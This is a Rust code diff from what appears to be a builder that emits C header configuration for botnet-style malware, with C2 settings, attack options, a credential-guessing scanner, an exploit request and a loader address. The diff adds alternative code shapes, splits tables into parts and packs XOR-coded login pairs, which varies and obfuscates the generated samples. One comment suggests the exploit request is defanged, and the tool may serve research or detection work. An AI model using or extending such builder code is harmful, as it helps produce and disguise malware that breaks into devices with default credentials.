@@ -4,7 +4,7 @@ use std::{fmt::Write as _, net::Ipv4Addr};
 
 use super::{
     attacks::{DefaultValue, OPTIONS},
-    configuration::{C2From, Configuration, Dispatch, Host, Strings},
+    configuration::{C2From, Configuration, Dispatch, Host, Shape, Strings},
     entries::Entry,
     values::folded,
 };
@@ -23,6 +23,13 @@ impl Header {
         let rows: Vec<String> =
             rows.into_iter().map(|row| format!("    {argument}({row})")).collect();
         self.define(&format!("{name}({argument})"), format!("\\\n{}", rows.join(" \\\n")));
+    }
+
+    /// A list in so many lists, one behind the other, named by their number.
+    fn parts(&mut self, name: &str, argument: &str, rows: Vec<String>, count: usize) {
+        for (number, part) in (1..).zip(rows.chunks(rows.len().div_ceil(count).max(1))) {
+            self.list(&format!("{name}_{number}"), argument, part.to_vec());
+        }
     }
 
     fn octets(&mut self, prefix: &str, address: Ipv4Addr) {
@@ -64,6 +71,14 @@ fn settings(header: &mut Header, configuration: &Configuration) {
         Strings::Image => "STRINGS_IMAGE",
     };
     header.define("STRINGS_FROM", strings);
+    let (table, logins) = match configuration.shape {
+        Shape::Calls => ("FORM_CALLS", "LOGINS_CALLS"),
+        Shape::Loop => ("FORM_LOOP", "LOGINS_LOOP"),
+        Shape::Static => ("FORM_STATIC", "LOGINS_PACKED"),
+        Shape::Object => ("FORM_OBJECT", "LOGINS_OBJECT"),
+    };
+    header.define("TABLE_FORM", table);
+    header.define("LOGINS_FROM", logins);
     let dispatch = match configuration.dispatch {
         Dispatch::Registry => "DISPATCH_REGISTRY",
         Dispatch::Switch => "DISPATCH_SWITCH",
@@ -94,6 +109,7 @@ fn strings(header: &mut Header, configuration: &Configuration) {
             format!("{}, {}, {}", entry.id, literal(&coded), coded.len())
         };
         header.list("TABLE_ENTRIES", "ENTRY", entries.iter().map(row));
+        header.parts("TABLE_ENTRIES", "ENTRY", entries.iter().map(row).collect(), 3);
     } else {
         for entry in entries {
             header.define(&format!("LENGTH_{}", entry.name), configuration.coded(entry).len());
@@ -227,17 +243,32 @@ fn scanner(header: &mut Header, configuration: &Configuration) {
     }
     let key = folded(configuration.credential_key);
     let coded = |text: &str| literal(&text.bytes().map(|byte| byte ^ key).collect::<Vec<u8>>());
-    header.list(
-        "CREDENTIALS",
-        "PAIR",
-        configuration.credentials.iter().map(|pair| {
-            format!("{}, {}, {}", coded(&pair.user), coded(&pair.password), pair.weight)
-        }),
-    );
+    let pairs: Vec<String> = configuration
+        .credentials
+        .iter()
+        .map(|pair| format!("{}, {}, {}", coded(&pair.user), coded(&pair.password), pair.weight))
+        .collect();
+    header.parts("CREDENTIALS", "PAIR", pairs.clone(), 2);
+    header.define("LOGIN_COUNT", pairs.len());
+    header.list("CREDENTIALS", "PAIR", pairs);
+    header.define("PACKED_LOGINS", packed(configuration, key));
     if let Some(exploit) = &configuration.exploit {
         header.define("EXPLOIT_PORT", exploit.port);
         header.define("EXPLOIT_REQUEST", exploit_request(exploit));
     }
+}
+
+/// Each pair as its weight, and both texts coded behind their lengths.
+fn packed(configuration: &Configuration, key: u8) -> String {
+    let mut bytes = Vec::new();
+    for pair in &configuration.credentials {
+        bytes.push(pair.weight as u8);
+        for text in [&pair.user, &pair.password] {
+            bytes.push(text.len() as u8);
+            bytes.extend(text.bytes().map(|byte| byte ^ key));
+        }
+    }
+    bytes.iter().map(|byte| format!("{byte}, ")).collect()
 }
 
 /// Request line, length and the loader address in the body; nothing that a device would run.
